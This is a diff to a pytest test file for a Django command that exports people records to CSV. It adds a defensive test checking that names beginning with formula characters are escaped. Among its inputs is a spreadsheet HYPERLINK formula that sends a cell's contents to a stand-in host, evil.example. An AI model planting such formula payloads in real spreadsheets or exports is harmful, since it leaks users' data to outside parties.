@@ -4,11 +4,14 @@ import csv
 import os
 import subprocess
 import sys
+from collections.abc import Callable
 from io import StringIO
 from pathlib import Path
 
 import pytest
 from django.core.management import CommandError, call_command
+
+from seuil.people.models import Person
 
 pytestmark = pytest.mark.django_db
 
@@ -21,7 +24,7 @@ etudiant;E1;Zoë;Brontë;2005-01-01;2026-09-01
 def export(*args: str) -> list[dict[str, str]]:
     out = StringIO()
     call_command("export_people", *args, stdout=out)
-    return list(csv.DictReader(StringIO(out.getvalue())))
+    return list(csv.DictReader(StringIO(out.getvalue(), newline="")))
 
 
 def test_it_exports_logins_addresses_and_states(tmp_path: Path) -> None:
@@ -84,3 +87,15 @@ def test_a_reader_that_stops_early_gets_no_traceback(tmp_path: Path) -> None:
     _, errors = export.communicate(timeout=60)
     assert b"Traceback" not in errors
     assert b"BrokenPipe" not in errors
+
+
+@pytest.mark.parametrize(
+    "name",
+    ['=HYPERLINK("http://evil.example/?"&A1,"Cliquez")', "+33612345678", "-2+3", "@SUM(A1)",
+     "\tTab"],
+)  # fmt: skip
+def test_no_cell_starts_like_a_formula(make_person: Callable[..., Person], name: str) -> None:
+    make_person(first_name="Anne", last_name=f"{name} Martin")
+    (row,) = export()
+    assert row["last_name"] == f"'{name} Martin"
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
